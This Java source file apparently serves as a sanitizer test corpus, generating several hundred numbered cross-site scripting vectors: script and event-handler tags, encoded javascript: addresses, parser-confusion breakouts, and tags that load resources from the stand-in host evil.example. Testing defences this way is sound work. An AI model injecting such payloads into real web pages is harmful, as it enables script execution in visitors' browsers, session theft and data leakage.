package trustcenter;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * Attempts to run a script in a visitor's browser, to load something from elsewhere or to lead
 * somewhere by code: written from the ideas of public collections of such attempts. A script of
 * number n calls {@code top.hit(n)}; a request goes to {@code http://evil.example/n}.
 */
final class InjectionVectors {
  private static final List<String> EVENTS =
      List.of(
          "abort",
          "animationend",
          "animationstart",
          "auxclick",
          "beforeinput",
          "beforetoggle",
          "blur",
          "cancel",
          "canplay",
          "change",
          "click",
          "close",
          "contextmenu",
          "copy",
          "cuechange",
          "cut",
          "dblclick",
          "drag",
          "dragend",
          "dragenter",
          "dragleave",
          "dragover",
          "dragstart",
          "drop",
          "durationchange",
          "emptied",
          "ended",
          "error",
          "focus",
          "formdata",
          "gotpointercapture",
          "input",
          "invalid",
          "keydown",
          "keypress",
          "keyup",
          "load",
          "loadeddata",
          "loadedmetadata",
          "loadstart",
          "mousedown",
          "mouseenter",
          "mouseleave",
          "mousemove",
          "mouseout",
          "mouseover",
          "mouseup",
          "mousewheel",
          "paste",
          "pause",
          "play",
          "playing",
          "pointerdown",
          "pointerenter",
          "pointermove",
          "pointerover",
          "pointerup",
          "progress",
          "ratechange",
          "reset",
          "resize",
          "scroll",
          "scrollend",
          "seeked",
          "seeking",
          "select",
          "selectionchange",
          "selectstart",
          "slotchange",
          "stalled",
          "submit",
          "suspend",
          "timeupdate",
          "toggle",
          "touchstart",
          "transitionend",
          "transitionrun",
          "volumechange",
          "waiting",
          "webkitanimationend",
          "webkittransitionend",
          "wheel");

  private static final List<String> ELEMENTS =
      List.of(
          "a",
          "abbr",
          "address",
          "article",
          "aside",
          "audio",
          "b",
          "bdo",
          "blockquote",
          "button",
          "center",
          "code",
          "dd",
          "details",
          "dialog",
          "div",
          "em",
          "fieldset",
          "figure",
          "font",
          "footer",
          "form",
          "h1",
          "header",
          "i",
          "kbd",
          "label",
          "li",
          "main",
          "mark",
          "marquee",
          "menu",
          "meter",
          "nav",
          "object",
          "ol",
          "output",
          "p",
          "pre",
          "progress",
          "q",
          "s",
          "section",
          "select",
          "small",
          "span",
          "strong",
          "sub",
          "summary",
          "sup",
          "table",
          "textarea",
          "time",
          "tt",
          "u",
          "ul",
          "var",
          "video",
          "x-y");

  /** Ways to write an address that is a script; the code stands for {@code CODE}. */
  static final List<String> SCRIPT_ADDRESSES =
      List.of(
          "javascript:CODE",
          "JavaScript:CODE",
          "JAVASCRIPT:CODE",
          "javascript&colon;CODE",
          "javascript&#58;CODE",
          "javascript&#x3a;CODE",
          "javascript&#x0003A;CODE",
          "&#106;avascript:CODE",
          "&#x6A;avascript:CODE",
          "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;CODE",
          "java&Tab;script:CODE",
          "java&NewLine;script:CODE",
          "java&#9;script:CODE",
          "java&#10;script:CODE",
          "java&#13;script:CODE",
          "jav&#x09;ascript:CODE",
          "j&Tab;a&Tab;v&Tab;a&Tab;script:CODE",
          "&#1;javascript:CODE",
          "&#x14;javascript:CODE",
          "&#32;javascript:CODE",
          "&Tab;javascript:CODE",
          "javascript:/*x*/CODE",
          "javascript://%0aCODE",
          "javascript:%74op.hit(N)",
          "javascript:void(CODE)",
          "javascript:CODE//https://a.example/",
          "javascript://a.example/%0ACODE",
          "javascript:'x';CODE",
          "javascript:`${CODE}`");

  private static final List<String> BREAKOUTS =
      List.of(
          "\">",
          "'>",
          "\"'>",
          ">",
          "\" x=\"\">",
          "</title>",
          "</textarea>",
          "</style>",
          "</script>",
          "--></script>",
          "-->",
          "]]>",
          "</p>",
          "</a>",
          "</li></ul>",
          "</td></tr></table>",
          "</main></body>",
          "</noscript>",
          "</template>",
          "</svg>",
          "\\\">",
          "&quot;>",
          "%22>",
          "{{ '' }}",
          "`",
          "```\n",
          "*_~`[](",
          "![](",
          "<!--",
          "<![CDATA[");

  private static final List<String> LOADING =
      List.of(
          "<img src=\"URL\">",
          "<img src='URL'>",
          "<img src=URL>",
          "<IMG SRC=\"URL\">",
          "<img srcset=\"URL 1x\">",
          "<picture><source srcset=\"URL\"><img></picture>",
          "<image src=\"URL\">",
          "<input type=\"image\" src=\"URL\">",
          "<iframe src=\"URL\"></iframe>",
          "<embed src=\"URL\">",
          "<object data=\"URL\"></object>",
          "<video src=\"URL\"></video>",
          "<video poster=\"URL\"></video>",
          "<video><source src=\"URL\"></video>",
          "<audio src=\"URL\" preload=\"auto\"></audio>",
          "<script src=\"URL\"></script>",
          "<script src=//evil.example/N></script>",
          "<script type=\"module\" src=\"URL\"></script>",
          "<link rel=\"stylesheet\" href=\"URL\">",
          "<link rel=\"preload\" as=\"image\" href=\"URL\">",
          "<link rel=\"modulepreload\" href=\"URL\">",
          "<style>@import url(URL);</style>",
          "<style>@import 'URL';</style>",
          "<style>*{background:url(URL)}</style>",
          "<div style=\"background:url(URL)\">x</div>",
          "<b style=\"background-image:url('URL')\">x</b>",
          "<li style=\"list-style-image:url(URL)\">x</li>",
          "<p style=\"border-image:url(URL) 1;border:1px solid\">x</p>",
          "<p style=\"content:url(URL)\">x</p>",
          "<body background=\"URL\">",
          "<table background=\"URL\"><tr><td>x</table>",
          "<table><tr><td background=\"URL\">x</table>",
          "<svg><image href=\"URL\" width=\"9\" height=\"9\"/></svg>",
          "<svg><image xlink:href=\"URL\" width=\"9\" height=\"9\"/></svg>",
          "<svg><filter id=\"f\"><feImage href=\"URL\"/></filter><rect width=\"9\" height=\"9\""
              + " filter=\"url(#f)\"/></svg>",
          "<svg><style>*{background:url(URL)}</style></svg>",
          "<math><mtext><img src=\"URL\"></mtext></math>",
          "<meta http-equiv=\"refresh\" content=\"0;url=URL\">",
          "<form action=\"URL\"><button>x</button></form>",
          "<form><button formaction=\"URL\">x</button></form>",
          "<form id=\"fN\" action=\"URL\"></form><button form=\"fN\">x</button>",
          "<form method=\"post\" action=\"URL\"><input type=\"submit\"></form>",
          "<base href=\"http://evil.example/\"><img src=\"N\">");

  private static final List<String> RUNNING =
      List.of(
          "<script>CODE</script>",
          "<SCRIPT>CODE</SCRIPT>",
          "<ScRiPt >CODE</sCrIpT >",
          "<script\n>CODE</script\n>",
          "<script/x>CODE</script/x>",
          "<script type=\"text/javascript\">CODE</script>",
          "<script type=\"module\">CODE</script>",
          "<script>/*<!--*/CODE/*-->*/</script>",
          "<script>CODE//",
          "<script src=\"data:text/javascript,CODE\"></script>",
          "<<script>CODE//<</script>",
          "<x><script>CODE</script></x>",
          "<img src=\"x\" onerror=\"CODE\">",
          "<img src=x onerror=CODE>",
          "<img/src=x/onerror=CODE>",
          "<img src=x:x onerror=CODE//",
          "<img\nsrc=x\nonerror=CODE\n>",
          "<img\tsrc=x\tonerror=CODE>",
          "<IMG SRC=x ONERROR=CODE>",
          "<img src=x onerror='CODE'>",
          "<img src=`x` onerror=CODE>",
          "<img \"\"\"><script>CODE</script>\">",
          "<img src=x onerror=\"&#116;op.hit(N)\">",
          "<img src=x onerror=\"&#x74;&#x6f;&#x70;.hit(N)\">",
          "<img src=x onerror=\"t&#111;p&period;hit&lpar;N&rpar;\">",
          "<img src onerror /\" '\"= alt=CODE//\" onerror=\"CODE\">",
          "<image src=x onerror=CODE>",
          "<input autofocus onfocus=CODE>",
          "<select autofocus onfocus=CODE></select>",
          "<textarea autofocus onfocus=CODE></textarea>",
          "<details open ontoggle=CODE>x</details>",
          "<svg onload=CODE></svg>",
          "<svg/onload=CODE>",
          "<svg><script>CODE</script></svg>",
          "<svg><script href=\"data:text/javascript,CODE\"></script></svg>",
          "<svg><g onload=CODE></g></svg>",
          "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
          "<svg><set onbegin=CODE attributeName=x to=y></svg>",
          "<svg><a xlink:href=\"javascript:CODE\"><text y=\"9\">x</text></a></svg>",
          "<svg><a href=\"javascript:CODE\"><text y=\"9\">x</text></a></svg>",
          "<svg><foreignObject><img src=x onerror=CODE></foreignObject></svg>",
          "<svg><desc><img src=x onerror=CODE></desc></svg>",
          "<math><mtext><script>CODE</script></mtext></math>",
          "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=CODE></annotation-xml>",
          "<iframe src=\"javascript:CODE\"></iframe>",
          "<iframe srcdoc=\"<script>CODE</script>\"></iframe>",
          "<iframe srcdoc=\"&lt;img src=x onerror=CODE&gt;\"></iframe>",
          "<iframe onload=CODE></iframe>",
          "<object data=\"javascript:CODE\" onerror=CODE></object>",
          "<video><source onerror=CODE></video>",
          "<video src=x onerror=CODE></video>",
          "<audio src=x onerror=CODE></audio>",
          "<body onload=CODE>",
          "<body onpageshow=CODE>",
          "<marquee onstart=CODE>x</marquee>",
          "<style>@keyframes k{}</style><b style=\"animation:k 1s\" onanimationstart=CODE>x</b>",
          "<style onload=CODE></style>",
          "<link rel=stylesheet href=data:text/css, onload=CODE>",
          "<link rel=stylesheet href=x:x onerror=CODE>",
          "<form action=\"javascript:CODE\"><button>x</button></form>",
          "<form><button formaction=\"javascript:CODE\">x</button></form>",
          "<form><input type=submit formaction=\"javascript:CODE\"></form>",
          "<map><area href=\"javascript:CODE\"></map>",
          "<a href=\"#\" onclick=\"CODE\">x</a>",
          "<a href=javascript:CODE>x</a>",
          "<base href=\"javascript:/a/\"><img src=x onerror=CODE>",
          "<isindex><img src=x onerror=CODE>",
          "<noscript><p title=\"</noscript><img src=x onerror=CODE>\">",
          "<template></template><img src=x onerror=CODE>",
          "<xmp><p title=\"</xmp><img src=x onerror=CODE>\">",
          "<title><p title=\"</title><img src=x onerror=CODE>\">",
          "<textarea><p title=\"</textarea><img src=x onerror=CODE>\">",
          "<style><p title=\"</style><img src=x onerror=CODE>\">",
          "<noembed><p title=\"</noembed><img src=x onerror=CODE>\">",
          "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=CODE>",
          "<svg></p><style><a title=\"</style><img src=x onerror=CODE>\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
          "<!--><img src=x onerror=CODE>-->",
          "<!-- --!><img src=x onerror=CODE>-->",
          "<?x ><img src=x onerror=CODE>?>",
          "<!x ><img src=x onerror=CODE>",
          "</ x><img src=x onerror=CODE>",
          "<details open=\"\" ontoggle=\"CODE\"><summary onclick=\"CODE\">x</summary></details>",
          "<abbr title=\"x\" onmouseover=\"CODE\">x</abbr>",
          "<table><tr><td onmouseover=\"CODE\">x</td></tr></table>",
          "<time datetime=\"2026\" onclick=\"CODE\">x</time>",
          "<sub onclick=\"CODE\">x</sub>",
          "<br onmouseover=\"CODE\">",
          "<wbr onmouseover=\"CODE\">",
          "<b lang=\"de\" onmouseover=\"CODE\">x</b>");

  /**
   * One attempt.
   *
   * @param html as it works in a page
   */
  record Vector(int number, String html) {}

  private final List<Vector> all = new ArrayList<>();

  private InjectionVectors() {}

  static List<Vector> all() {
    InjectionVectors vectors = new InjectionVectors();
    RUNNING.forEach(vectors::add);
    LOADING.forEach(vectors::add);
    int element = 0;
    for (String event : EVENTS) {
      String name = ELEMENTS.get(element++ % ELEMENTS.size());
      vectors.add("<" + name + " on" + event + "=\"CODE\">x</" + name + ">");
    }
    for (String name : ELEMENTS) {
      vectors.add("<" + name.toUpperCase(Locale.ROOT) + " ONclick='CODE'>x");
    }
    for (String address : SCRIPT_ADDRESSES) {
      vectors.add("<a href=\"" + address + "\">x</a>");
    }
    for (String breakout : BREAKOUTS) {
      vectors.add(breakout + "<img src=x onerror=CODE>");
    }
    return List.copyOf(vectors.all);
  }

  private void add(String html) {
    int number = all.size() + 1;
    all.add(new Vector(number, numbered(html, number)));
  }

  /** A vector's text with its number in the places that are left open for it. */
  static String numbered(String html, int number) {
    return html.replace("CODE", "top.hit(N)")
        .replace("URL", "http://evil.example/N")
        .replace("hit(N)", "hit(" + number + ")")
        .replace("evil.example/N", "evil.example/" + number)
        .replace("src=\"N\"", "src=\"" + number + "\"")
        .replace("fN", "f" + number);
  }
}
